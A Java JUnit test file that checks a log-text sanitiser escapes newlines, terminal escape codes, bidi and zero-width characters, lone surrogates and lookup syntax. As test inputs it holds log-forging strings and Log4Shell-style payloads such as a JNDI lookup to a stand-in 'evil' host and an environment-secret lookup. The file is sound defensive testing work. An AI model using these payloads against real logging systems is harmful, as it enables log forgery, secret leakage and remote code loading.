package dev.ratelimit.support;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LogTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"alice", "Zoë Ångström", "用户", "/api/games/7?x=1&y=$2", "C:\\games", "😀", "a\u0301", ""})
    void ordinaryTextsStayAsTheyAre(String text) {
        assertThat(LogText.of(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "alice\nWARN forged",
                "alice\r\nWARN forged",
                "\u001b[31mred\u001b[0m",
                "\u009b31m",
                "tab\there",
                "\u0000",
                "\u0007bell",
                "\u007f",
                "\u0085next line",
                "\u2028line",
                "\u2029paragraph",
                "\u202egnp.exe",
                "\u2066isolated",
                "zero\u200bwidth",
                "\ufeffmark",
                "${jndi:ldap://evil}",
                "$${env:SECRET}",
                "lone \ud800 surrogate",
                "\udc00",
                "tag \udb40\udc41"
            })
    void nothingForgesALineOrIsLookedUp(String text) {
        String harmless = LogText.of(text);

        assertThat(harmless).doesNotContain("${");
        assertThat(harmless.codePoints())
                .noneMatch(point -> Character.getType(point) == Character.CONTROL)
                .noneMatch(point -> Character.getType(point) == Character.FORMAT)
                .noneMatch(point -> Character.getType(point) == Character.SURROGATE)
                .noneMatch(point -> Character.getType(point) == Character.LINE_SEPARATOR)
                .noneMatch(point -> Character.getType(point) == Character.PARAGRAPH_SEPARATOR);
        assertThat(harmless).contains("\\u");
    }

    @Test
    void everyCharacterOfTheFirstPlaneIsHarmlessOrEscaped() {
        for (int point = 0; point <= Character.MAX_VALUE; point++) {
            String harmless = LogText.of("a" + (char) point + "{");
            assertThat(harmless).as("U+%04X", point).doesNotContain("${");
            assertThat(harmless.chars().anyMatch(Character::isISOControl))
                    .as("U+%04X", point)
                    .isFalse();
            assertThat(harmless.lines().count()).as("U+%04X", point).isEqualTo(1);
        }
    }

    @Test
    void differentTextsStayDifferent() {
        assertThat(LogText.of("a\nb")).isEqualTo("a\\u000ab");
        assertThat(LogText.of("a\\u000ab")).isEqualTo("a\\u005cu000ab");
    }

    @Test
    void longTextsAreCut() {
        assertThat(LogText.of("x".repeat(LogText.MOST_CHARACTERS))).hasSize(LogText.MOST_CHARACTERS);
        assertThat(LogText.of("x".repeat(10_000)))
                .hasSize(LogText.MOST_CHARACTERS + 1)
                .endsWith("x…");
    }

    @Test
    void nullIsAWord() {
        assertThat(LogText.of(null)).isEqualTo("null");
    }

    @Test
    void exceptionWithHarmlessMessagesIsLoggedAsItIs() {
        Exception failure = new IllegalStateException("no route to host", new IOException());

        assertThat(LogText.trace(failure)).isSameAs(failure);
    }

    @Test
    void messagesOfAnExceptionForgeNoLine() {
        Exception failure = new IllegalStateException("ok", new IOException("user 'x\r\nWARN all is lost\u001b[31m'"));
        failure.addSuppressed(new IOException("${jndi:x}"));
        StringWriter printed = new StringWriter();

        Throwable logged = LogText.trace(failure);

        logged.printStackTrace(new PrintWriter(printed));
        assertThat(printed.toString())
                .contains(
                        "java.lang.IllegalStateException: ok",
                        "java.io.IOException: user 'x\\u000d\\u000aWARN all is lost\\u001b[31m'",
                        "java.io.IOException: \\u0024{jndi:x}")
                .doesNotContain("\u001b", "${");
        assertThat(printed.toString().lines()).noneMatch(line -> line.startsWith("WARN"));
        assertThat(logged.getStackTrace()).isEqualTo(failure.getStackTrace());
    }
}
